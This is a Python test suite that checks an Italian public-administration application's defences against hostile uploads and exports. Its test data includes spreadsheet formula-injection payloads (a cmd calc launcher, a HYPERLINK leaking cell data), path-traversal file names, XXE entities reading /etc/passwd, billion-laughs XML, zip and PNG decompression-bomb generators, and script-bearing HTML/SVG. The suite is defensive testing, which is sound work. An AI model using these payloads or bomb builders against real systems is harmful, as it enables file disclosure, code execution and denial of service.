"""Files that strangers made to do harm: formulas, names that lead elsewhere, archives that swell, pictures that tell."""

import io
import struct
import tracemalloc
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from core_minori.engine import fatturapa, identifiers, papers, sim, xlsx
from core_minori.engine.attachments import KINDS, checked, harmless_name, too_large
from core_minori.engine.dossier import plain
from core_minori.engine.inert import inert, released, without_control, would_run
from core_minori.engine.message import RuleError
from core_minori.engine.sheet_writer import Table, put, saved, template

MEGABYTE = 1_000_000
FORMULAS = (
	"=1+1",
	'=HYPERLINK("http://x/?"&A1,"apri")',
	"+1+cmd|' /C calc'!A0",
	"-1+cmd|' /C calc'!A0",
	"@SUM(1)",
	"\t=1",
	"\r=1",
	" =1",
	"\u00a0=1",
	"\ufeff=1",
	"'=1",
	'"=1',
	"\u201c=1",
	"\uff1d1+1",
	"\uff0b1",
	"\uff20x",
	"+39 06 1234",
)
HARMLESS = ("Abdi", "-5", "-1.234,50 €", "-12.5%", "12/03/2010", "n. 3 = tre", "a-b", "'ndrina", "", "x@y.it")


# --- formulas ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_would_run_is_held_back_and_comes_back_whole(text):
	assert would_run(text)
	assert inert(text).startswith("'")
	assert released(inert(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_left_as_they_are(text):
	assert inert(text) == text and released(text) == text


@pytest.mark.parametrize(
	"text", ["ciao;=1+1", "ciao,=1+1", "ciao\n=1+1", "ciao;'=1", "a\t@x", "a\n-1+cmd|'x'!A"]
)
def test_no_formula_begins_after_what_another_program_takes_for_a_separator(text):
	held = inert(text)
	for separator in ";,\t\n":
		assert not any(would_run(cell) and not cell.startswith("'") for cell in held.split(separator)), held
	assert released(held) == text


def test_lists_of_dashes_stay_readable():
	assert inert("Da fare:\n- scuola\n- visita") == "Da fare:\n- scuola\n- visita"


@settings(max_examples=2_000, deadline=None)
@given(st.text(alphabet=list("=+-@'\";,\t\r\n (|!aà\uff1d1.\u200b\u00a0"), max_size=12))
def test_every_text_makes_the_way_there_and_back(text):
	assert released(inert(text)) == text


@pytest.mark.parametrize(
	"text", ["=" * 10**6, ";-" * 500_000 + "(", "\n" * 10**6, ";'" * 500_000, " " * 10**6]
)
def test_long_texts_take_no_longer_than_their_length(text):
	# A rule whose work grows with the square of the length would not come to an end here.
	assert released(inert(text)) == text


def test_a_workbook_types_every_text_and_keeps_it():
	book = Workbook()
	for place, text in enumerate((*FORMULAS, *HARMLESS, "#N/A"), start=1):
		put(book.active.cell(place, 1), text)
	put(book.active.cell(1, 2), -5)
	sheet = load_workbook(io.BytesIO(saved(book))).active
	for place, text in enumerate((*FORMULAS, *HARMLESS, "#N/A"), start=1):
		cell = sheet.cell(place, 1)
		if text:
			assert (cell.data_type, cell.quotePrefix) == ("s", would_run(text)), text
			# XML makes one kind of line end of the others.
			assert cell.value == without_control(text).replace("\r", "\n")
	assert sheet.cell(1, 2).value == -5 and sheet.cell(1, 2).data_type == "n"


def test_sheets_that_are_only_read_run_nothing():
	data = template((), {}, {}, ["=1+1"], to_read=[Table("Foglio", ["=A1"], [["=1+1", -3, "@x"]])])
	for sheet in load_workbook(io.BytesIO(data)):
		for row in sheet.iter_rows():
			for cell in row:
				assert cell.data_type not in ("f", "e")


def test_the_sheet_for_the_ministry_runs_nothing():
	data = sim.as_csv([["=1+1", "ciao;=2", "\u00a0@x"]]).decode("utf-8-sig")
	assert data == "'=1+1;\"ciao;'=2\";'\u00a0@x\r\n"


# --- names ------------------------------------------------------------------------------------------------------------

NAMES = (
	"../../etc/passwd",
	"..\\..\\win.ini",
	"/etc/passwd",
	"C:\\x.pdf",
	"a\0b.pdf",
	"x" * 5_000 + ".pdf",
	"\u0639" * 300 + ".pdf",
	"fattura\u202efdp.exe",
	"CON.txt",
	"aux",
	"..",
	".",
	"",
	".htaccess",
	"a\nb\tc.pdf",
	'a"b<c>.pdf',
	"x.pdf\u200b",
	"a%2f..%2fb.pdf",
)


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_harmless_on_any_system(name):
	safe = harmless_name(name)
	assert safe and len(safe.encode()) <= 160 and safe == harmless_name(safe)
	assert not set(safe) & set('/\\:*?"<>|%#\0\n\t\u202e\u200b')
	assert safe.strip(". ") == safe and ".." not in safe.split("_")
	assert safe.split(".")[0].lower() not in ("con", "aux", "nul")


def test_plain_names_stay():
	for name in ("relazione n. 3 (firmata).pdf", "così è.docx", "Anno 2026+allegati.zip"):
		assert harmless_name(name) == name


@pytest.mark.parametrize("name", NAMES)
def test_names_in_an_archive_that_we_write_are_plain(name):
	assert set(plain(name)) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_")


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
	stream = io.BytesIO()
	with zipfile.ZipFile(stream, "w", compression) as archive:
		for name, content in members.items():
			archive.writestr(name, content)
	return stream.getvalue()


@pytest.mark.parametrize("name", ["../x.xml", "/x.xml", "a\\..\\..\\x.xml", "C:x.xml", "a/../../x.xml"])
def test_a_member_that_leads_out_is_opened_nowhere(name):
	data = zipped({name: b"<x/>"})
	with pytest.raises(RuleError):
		fatturapa.archive_for_import("fatture.zip", data)
	with pytest.raises(xlsx.Refused):
		papers.open_papers(data)


# --- bombs ------------------------------------------------------------------------------------------------------------

_LAUGHS = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
XML = {
	"laughs": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]><x>&l9;</x>',
	"outside": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
	"parameter": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:1/x"> %p;]><x/>',
	"definition": '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd"><x/>',
	"quadratic": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY q "{"q" * 50_000}">]><x>{"&q;" * 50_000}</x>',
}


@pytest.mark.parametrize("kind", XML)
def test_xml_definitions_are_refused_unread(kind):
	data = XML[kind].encode()
	book = _workbook()
	tracemalloc.start()
	try:
		with pytest.raises(RuleError):
			fatturapa.archive_for_import("IT01234567890_1.xml", data)
		for part in ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml", "[Content_Types].xml"):
			with pytest.raises(xlsx.Refused):
				xlsx.open_workbook(_with_part(book, part, data))
		assert tracemalloc.get_traced_memory()[1] < 60 * MEGABYTE
	finally:
		tracemalloc.stop()


def test_an_include_of_another_file_is_text():
	data = b'<?xml version="1.0"?><x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></x>'
	with pytest.raises(RuleError) as refused:
		fatturapa.archive_for_import("IT01234567890_1.xml", data)
	assert "root:" not in str(refused.value)


def test_archives_that_swell_are_refused_before_they_do():
	zeros = bytes(60 * MEGABYTE)
	swelling = {f"{number}.xml": zeros for number in range(5)}
	bombs = {
		"ratio": zipped(swelling),
		"members": zipped({f"{number}.xml": b"" for number in range(6_000)}),
		"overlapping": _overlapping(zeros, 300),
	}
	tracemalloc.start()
	try:
		for data in bombs.values():
			with pytest.raises(RuleError):
				fatturapa.archive_for_import("fatture.zip", data)
			with pytest.raises(xlsx.Refused):
				papers.open_papers(data)
			with pytest.raises(xlsx.Refused):
				xlsx.open_workbook(data)
		assert tracemalloc.get_traced_memory()[1] < 80 * MEGABYTE
	finally:
		tracemalloc.stop()


def test_an_archive_in_an_archive_is_not_opened():
	inner = zipped({"0.xml": bytes(50 * MEGABYTE)})
	with pytest.raises(RuleError):
		fatturapa.archive_for_import("fatture.zip", zipped({"interno.zip": inner}))


def test_a_member_that_lies_about_its_size_is_read_no_further():
	data = bytearray(zipped({"a.pdf": bytes(5 * MEGABYTE)}))
	real = struct.pack("<I", 5 * MEGABYTE)
	place = data.find(real)
	while place >= 0:
		data[place : place + 4] = struct.pack("<I", 10)
		place = data.find(real, place + 4)
	with pytest.raises(xlsx.Refused):
		papers.open_papers(bytes(data)).read("a.pdf")


def _workbook() -> bytes:
	book = Workbook()
	book.active["A1"] = "x"
	return saved(book)


def _with_part(book: bytes, part: str, content: bytes) -> bytes:
	with zipfile.ZipFile(io.BytesIO(book)) as archive:
		return zipped({name: content if name == part else archive.read(name) for name in archive.namelist()})


def _overlapping(content: bytes, times: int) -> bytes:
	"""One packed member that the list of the archive names many times."""
	packed = zlib.compressobj(9, zlib.DEFLATED, -15)
	body = packed.compress(content) + packed.flush()
	sum_of = zlib.crc32(content)
	fields = (20, 0, 8, 0, 33, sum_of, len(body), len(content), 5)
	local = b"PK\x03\x04" + struct.pack("<5H3I2H", *fields, 0) + b"0.xml"
	listed = b""
	for number in range(times):
		name = f"{number:05}"
		listed += b"PK\x01\x02" + struct.pack("<6H3I5H2I", 20, *fields, 0, 0, 0, 0, 0, 0) + name.encode()
	end = struct.pack("<4H2IH", 0, 0, times, times, len(listed), len(local) + len(body), 0)
	return local + body + listed + b"PK\x05\x06" + end


# --- kinds ------------------------------------------------------------------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF"
PAGE = b"<!DOCTYPE html><script>alert(1)</script>"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


@pytest.mark.parametrize(
	("name", "content"),
	[
		("a.html", PAGE),
		("a.htm", PAGE),
		("a.svg", DRAWING),
		("a.xml", b"<x/>"),
		("a.js", b"alert(1)"),
		("a.exe", b"MZ\x90\0"),
		("a.bat", b"del *"),
		("a.lnk", b"L\0\0\0"),
		("a.pdf.exe", PDF),
		("a", PDF),
		("a.", PDF),
		("a.docm", b"PK\x03\x04"),
		("a.heic", b"\0\0\0\x18ftypheic"),
		("a.tiff", b"II*\0"),
		("a.pdf", PAGE),
		("a.pdf", b" " * 10 + DRAWING + b"%PDF-1.4"),
		("a.jpg", PAGE),
		("a.png", DRAWING),
		("a.docx", PDF),
		("a.docx", zipped({"x": b"y"})),
		("a.docx", zipped({"[Content_Types].xml": b"<x/>", "word/vbaProject.bin": b"x"})),
		("a.txt", PAGE),
		("a.txt", b"\xef\xbb\xbf <SCRIPT>x</SCRIPT>"),
		("a.csv", b"a\0b"),
		("a.eml", PAGE),
		("a.json", b"{" * 100_000),
		("a.json", b"[" * 100_000),
		("a.pdf", b""),
		("a.jpg", b"\xff\xd8\xff\xe1\xff\xffExif"),
	],
)
def test_what_no_case_needs_is_refused_in_words(name, content):
	with pytest.raises(RuleError) as refused:
		checked(name, content)
	assert refused.value.finding.remedy and refused.value.finding.message.render()


@pytest.mark.parametrize(
	("name", "content"),
	[
		("a.pdf", PDF),
		("A.PDF", PDF),
		("a.txt", "Così è; <nota>".encode()),
		("a.csv", b"a;b\r\n1;2"),
		("a.eml", b"Subject: prova\r\n\r\n<html>testo</html>"),
		("a.docx", zipped({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"})),
		("a.odt", zipped({"mimetype": b"application/vnd.oasis.opendocument.text"})),
		("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)),
		("a.rtf", b"{\\rtf1 x}"),
		("a.pdf.p7m", b"\x30\x82\x01\x00" + PDF),
		("a.json", b'{"a": 1}'),
	],
)
def test_what_a_case_needs_is_kept_as_it_came(name, content):
	assert checked(name, content) == content


def test_every_kind_refuses_a_page():
	for ending in KINDS:
		with pytest.raises(RuleError):
			checked(f"a.{ending}", PAGE)


def test_a_size_is_refused_in_words():
	assert too_large(20 * MEGABYTE, 20) is None
	said = too_large(20 * MEGABYTE + 1, 20).finding.message.render()
	assert "20.0 MB" in said and "20 MB" in said
	assert too_large(MEGABYTE, 0) is None and too_large(2 * MEGABYTE, -5) is not None


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=200), st.sampled_from(("jpg", "png", "webp", "gif", "docx", "json", "pdf")))
def test_broken_bytes_are_refused_and_break_nothing(content, ending):
	heads = {"jpg": b"\xff\xd8\xff", "png": b"\x89PNG\r\n\x1a\n", "gif": b"GIF89a", "docx": b"PK\x03\x04"}
	heads |= {"webp": b"RIFF\x10\0\0\0WEBP", "json": b"", "pdf": b"%PDF-"}
	try:
		checked(f"a.{ending}", heads[ending] + content)
	except RuleError:
		pass


def test_a_picture_that_unpacks_to_gigabytes_is_not_unpacked():
	head = struct.pack(">2I5B", 60_000, 60_000, 8, 2, 0, 0, 0)
	chunks = [(b"IHDR", head), (b"IDAT", zlib.compress(bytes(MEGABYTE))), (b"IEND", b"")]
	bomb = b"\x89PNG\r\n\x1a\n" + b"".join(
		struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
		for kind, body in chunks
	)
	tracemalloc.start()
	try:
		assert checked("a.png", bomb) == bomb
		assert tracemalloc.get_traced_memory()[1] < 5 * MEGABYTE
	finally:
		tracemalloc.stop()


# --- long and deep ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("letter", ["A", "0", " ", "-", "\n", "CIG ", "A0", "\u0639"])
def test_identifiers_of_a_million_signs_are_refused(letter):
	text = letter * (10**6 // len(letter))
	for check in (identifiers.check_cup, identifiers.check_cig):
		# Blanks and dashes alone are an empty field.
		assert bool(check(text)) == bool(text.strip(" -\n"))


def test_deep_json_is_refused():
	with pytest.raises(RuleError):
		checked("a.json", b'{"a":' * 200_000)
